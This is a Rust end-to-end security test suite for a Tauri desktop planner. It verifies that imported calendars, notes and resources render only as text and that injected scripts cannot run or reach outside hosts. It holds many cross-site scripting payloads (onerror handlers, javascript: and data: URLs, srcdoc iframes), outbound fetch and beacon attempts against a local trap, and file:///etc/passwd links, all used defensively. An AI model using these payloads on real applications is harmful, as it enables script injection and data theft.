//! What comes from elsewhere is text in the window: it runs nothing, loads nothing, opens nothing.

use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use e2e::servant::until;
use e2e::stage::Stage;
use e2e::window::Window;
use serde_json::{Value, json};
use thirtyfour::Key;

/// A web server's place on this machine that writes down what is asked of it.
struct Trap {
    at: String,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Trap {
    fn set() -> Self {
        let door = TcpListener::bind(("127.0.0.1", 0)).unwrap();
        let at = door.local_addr().unwrap().to_string();
        let asked = Arc::new(Mutex::new(Vec::new()));
        let writes = Arc::clone(&asked);
        std::thread::spawn(move || {
            for comer in door.incoming().flatten() {
                // A web view may open a connection ahead of a page that it then refuses; what counts is what it asks.
                comer.set_read_timeout(Some(Duration::from_secs(1))).unwrap();
                let mut line = String::new();
                if BufReader::new(comer).read_line(&mut line).is_ok_and(|length| length > 0) {
                    writes.lock().unwrap().push(line.trim().to_owned());
                }
            }
        });
        Trap { at, asked }
    }

    /// Nothing was asked, and what is asked is written down.
    fn is_empty(&self) {
        assert_eq!(*self.asked.lock().unwrap(), [""; 0], "something was loaded from elsewhere");
        TcpStream::connect(&self.at).unwrap().write_all(b"GET /test\n").unwrap();
        until("the trap to tell", || *self.asked.lock().unwrap() == ["GET /test"]);
    }

    /// HTML that would say so if it ran, and come here if it were loaded.
    fn html(&self, from: &str) -> String {
        format!(
            "{from} <img src=\"http://{}/{from}.png\" onerror=\"window.ran='{from}'\"><script>window.ran='{from}'</script>",
            self.at
        )
    }
}

/// Nothing has run, and nothing on the page leads out of it.
async fn is_untouched(window: &Window, place: &str) {
    let script = "const foreign = [...document.querySelectorAll('*')].flatMap((it) => [...it.attributes]
            .filter(({ name, value }) => /^on/.test(name) || name === 'srcdoc'
              || (['src', 'href', 'action', 'data', 'formaction'].includes(name) && !/^(#|\\/(?!\\/)|tauri:\\/\\/localhost\\/)/.test(value)))
            .map(({ name, value }) => `${it.localName} ${name}=${value}`));
        const strange = [...document.querySelectorAll('img, iframe, object, embed, base, meta[http-equiv], script:not([src])')];
        return { ran: window.ran ?? null, foreign, strange: strange.map((it) => it.outerHTML), at: location.href }";
    let found = window.script(script, vec![]).await;
    assert_eq!(
        (&found["ran"], &found["foreign"], &found["strange"]),
        (&Value::Null, &json!([]), &json!([])),
        "{place}"
    );
    assert!(found["at"].as_str().unwrap().starts_with("tauri://localhost"), "{place}: {found}");
}

async fn shows(window: &Window, what: &str) {
    let script = format!("return document.body.textContent.includes({})", json!(what));
    window.wait_for(what, &script).await;
}

#[tokio::test]
async fn what_is_written_or_brought_is_only_text() {
    let trap = Trap::set();
    let mut stage = Stage::new("only-text");
    let html = |from: &str| trap.html(from);
    let calendar = format!(
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\nX-WR-CALNAME:{}\r\nBEGIN:VEVENT\r\nUID:1\r\n\
         DTSTAMP:20261101T000000Z\r\nSUMMARY:{}\r\nDTSTART:20261126T120000Z\r\nDTEND:20261126T150000Z\r\n\
         URL:javascript:window.ran='url'\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
        html("calendar"),
        html("event"),
    );
    let file = stage.file("evil.ics", &calendar);
    let window = stage.open().await;
    window.has_a_plan().await;
    let own = json!({ "title": html("unit"), "strategy": 2, "minutes": 120, "prerequisites": [],
        "outcomes": [html("outcome")] });
    let unit = window.ask("own_unit_set", own).await["unit"].as_str().unwrap().to_owned();
    let resource = json!({ "unit": unit, "title": html("resource"), "sections": html("sections"),
        "url": "https://example.org/\"><script>window.ran='address'</script>" });
    window.ask("own_resource_set", resource).await;
    let note = format!(
        "{}\n\n[go](javascript:window.ran='link') [data](data:text/html,<script>window.ran='data'</script>) \
         [file](file:///etc/passwd) <javascript:window.ran='auto'> [see][ref]\n\n\
         ![remote](http://{}/picture.png) ![inline](data:image/svg+xml,<svg onload=\"window.ran='inline'\"/>)\n\n\
         <iframe srcdoc=\"<script>parent.ran='frame'</script>\"></iframe> <svg onload=\"window.ran='svg'\"></svg>\n\n\
         [ref]: javascript:window.ran='reference'\n",
        html("note"),
        trap.at,
    );
    window.ask("note_set", json!({ "unit": unit, "text": note })).await;
    window.ask("reflection_set", json!({ "week": "2026-11-23", "text": html("reflection") })).await;
    window.close().await;

    stage.with(&[file.to_str().unwrap()]);
    let window = stage.open().await;
    shows(&window, "Add “calendar <img src=").await;
    is_untouched(&window, "the question").await;
    window.press("Add it").await;
    window.agrees("“calendar <img src=").await;
    is_untouched(&window, "the answer").await;
    let script = "location.hash = arguments[0]";
    for (address, seen) in [
        ("week/2026-11-26", "event <img src="),
        ("today", ""),
        ("roadmap", "unit <img src="),
        ("review", ""),
        ("settings/calendars", "calendar <img src="),
        (&*format!("strategies/{unit}"), "note <img src="),
    ] {
        window.script(script, vec![json!(address)]).await;
        let script =
            format!("return location.hash === '#{address}' && document.querySelector('main h1') !== null");
        window.wait_for(address, &script).await;
        shows(&window, seen).await;
        window.wait_for_nothing_under_way().await;
        is_untouched(&window, address).await;
        window.picture(&address.replace('/', "-")).await;
    }
    for seen in
        ["unit <img", "outcome <img", "resource <img", "sections <img", "[go](javascript:", "![remote]("]
    {
        shows(&window, seen).await;
    }
    let leads = "return document.querySelectorAll('.md button, .md a, .md svg, .md img, .md b').length";
    assert_eq!(window.script(leads, vec![]).await, json!(0), "something in the note leads out");
    window.chord(Key::Control, "k").await;
    window.wait_for("the palette", "return document.activeElement?.closest('.palette')?.open === true").await;
    window.keys("onerror").await;
    let found = "return document.querySelector('.palette')?.textContent.includes('<img src=') ?? false";
    window.wait_for("what was found", found).await;
    is_untouched(&window, "the palette").await;
    trap.is_empty();
    window.close().await;
}

/// What somebody who can put HTML into the page would try; `arguments[0]` is where they would be reached.
const ATTEMPTS: &str = r#"const at = `http://${arguments[0]}`, run = (how) => `window.ran = '${how}'`;
    window.refused = [];
    document.addEventListener('securitypolicyviolation', (it) => window.refused.push(it.effectiveDirective));
    const add = (name, attributes, text = '') => {
      const it = Object.assign(document.createElement(name), { textContent: text });
      for (const [key, value] of Object.entries(attributes)) it.setAttribute(key, value);
      document.body.append(it);
      return it;
    };
    const box = add('div', {});
    box.innerHTML = `<img src="${at}/a.png" onerror="${run('handler')}"><svg onload="${run('svg')}"></svg>
      <b style="background: url(${at}/b.png)">b</b><details open ontoggle="${run('toggle')}"></details>`;
    add('script', {}, run('inline'));
    add('script', { src: `${at}/c.js` });
    add('script', { src: `data:text/javascript,${run('data')}` });
    add('link', { rel: 'stylesheet', href: `${at}/d.css` });
    add('style', {}, `body { background: url(${at}/e.png) } @import url(${at}/f.css)`);
    add('img', { src: `${at}/g.png` });
    add('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' });
    add('iframe', { src: `${at}/h.html` });
    add('iframe', { srcdoc: `<script>parent.ran = 'frame'<\/script>` });
    add('object', { data: `${at}/i.html` });
    add('embed', { src: `${at}/j.html` });
    add('video', { src: `${at}/k.mp4` });
    add('audio', { src: `${at}/l.mp3` });
    add('base', { href: `${at}/` });
    add('form', { action: `${at}/m` }).submit();
    add('a', { href: `javascript:${run('link')}` }).click();
    add('a', { href: `${at}/n.html`, target: '_blank' }).click();
    add('a', { href: `${at}/o.html`, ping: `${at}/ping`, download: '' }).click();
    add('a', { href: 'file:///etc/passwd' }).click();
    add('a', { href: 'data:text/html,hello' }).click();
    const tries = [
      () => fetch(`${at}/p`).catch(() => {}), () => navigator.sendBeacon(`${at}/q`), () => new WebSocket(`ws://${arguments[0]}/r`),
      () => new EventSource(`${at}/s`), () => new Worker(`data:text/javascript,1`), () => eval(run('eval')),
      () => new Function(run('function'))(), () => setTimeout(run('timeout'), 0), () => window.open(`${at}/t.html`),
      () => { const asks = new XMLHttpRequest(); asks.open('GET', `${at}/u`); asks.send(); },
      () => import(`${at}/v.js`).catch(() => {}), () => { location.href = `${at}/w.html`; },
      () => { location.href = 'file:///etc/passwd'; }, () => { location.href = `javascript:${run('address')}`; },
    ];
    window.tried = 0;
    const next = () => { try { tries[window.tried](); } catch { /* Refused at once. */ }
      window.tried += 1; if (window.tried < tries.length) setTimeout(next, 20); };
    setTimeout(next, 20);"#;

#[tokio::test]
async fn a_script_that_got_into_the_page_would_run_nothing_and_reach_nobody() {
    let trap = Trap::set();
    let stage = Stage::new("policy");
    let window = stage.open().await;
    window.has_a_plan().await;
    window.script(ATTEMPTS, vec![json!(trap.at)]).await;
    let refused =
        "return ['script-src', 'style-src', 'img-src', 'frame-src', 'connect-src', 'media-src', 'object-src',
          'form-action', 'base-uri'].filter((kind) => !window.refused?.some((it) => it.startsWith(kind)))";
    let all = format!("return (() => {{ {refused} }})().length === 0");
    let begin = Instant::now();
    while window.script(&all, vec![]).await != json!(true) && begin.elapsed().as_secs() < 20 {
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(window.script(refused, vec![]).await, json!([]), "kinds of which nothing was refused");
    // What would have been let through has had its time by now: the application answers behind it.
    window.ask("week", json!({})).await;
    let state = "return [window.ran ?? null, location.origin, document.querySelector('.rail') !== null]";
    assert_eq!(window.script(state, vec![]).await, json!([null, "tauri://localhost", true]));
    trap.is_empty();
    window.close().await;
}

/// Asks the shell for something and answers how it refused; whatever it did not refuse is told, too.
async fn refusal(window: &Window, command: &str, args: Value) -> Value {
    let script = "const [name, args, done] = arguments;
        window.__TAURI_INTERNALS__.invoke(name, args)
          .then((answer) => done({ granted: answer ?? true }), (failure) => done({ failure }));";
    window.measures(script, vec![json!(command), args]).await
}

#[tokio::test]
async fn the_shell_does_nothing_for_the_page_but_its_one_command() {
    let stage = Stage::new("doors");
    let window = stage.open().await;
    window.has_a_plan().await;
    let file = stage.file("secret.txt", "secret");
    let path = file.to_str().unwrap();
    for (command, args) in [
        ("plugin:shell|execute", json!({ "program": "touch", "args": [path] })),
        ("plugin:shell|open", json!({ "path": path })),
        ("plugin:fs|read_text_file", json!({ "path": path })),
        ("plugin:fs|write_text_file", json!({ "path": path })),
        ("plugin:http|fetch", json!({ "url": "https://example.org" })),
        ("plugin:opener|open_url", json!({ "url": "https://example.org" })),
        ("plugin:opener|open_path", json!({ "path": path })),
        ("plugin:dialog|open", json!({ "options": {} })),
        ("plugin:dialog|message", json!({ "message": "hello" })),
        ("plugin:window-state|save_window_state", json!({ "flags": 1 })),
        ("plugin:event|emit", json!({ "event": "changed", "payload": {} })),
        ("plugin:window|close", json!({ "label": "main" })),
        (
            "plugin:webview|create_webview_window",
            json!({ "options": { "label": "x", "url": "https://example.org" } }),
        ),
        ("plugin:path|resolve_directory", json!({ "directory": 1 })),
        ("exit", json!({})),
    ] {
        let told = refusal(&window, command, args).await;
        let why = told["failure"].as_str().unwrap_or_else(|| panic!("{command}: {told}"));
        assert!(why.contains("not allowed") || why.contains("not found"), "{command}: {why}");
    }
    for url in ["javascript:alert(1)", "data:text/html,hello", "file:///etc/passwd", path] {
        for (language, says) in [("en", "is not opened: only addresses"), ("es", "no se abre: solo se abren")]
        {
            let args = json!({ "name": "link_open", "args": { "url": url }, "language": language });
            let told = refusal(&window, "call", args).await;
            assert_eq!(told["failure"]["code"], json!("bad_link"), "{url}: {told}");
            assert!(told["failure"]["message"].as_str().unwrap().contains(says), "{url}: {told}");
        }
    }
    window.close().await;
}
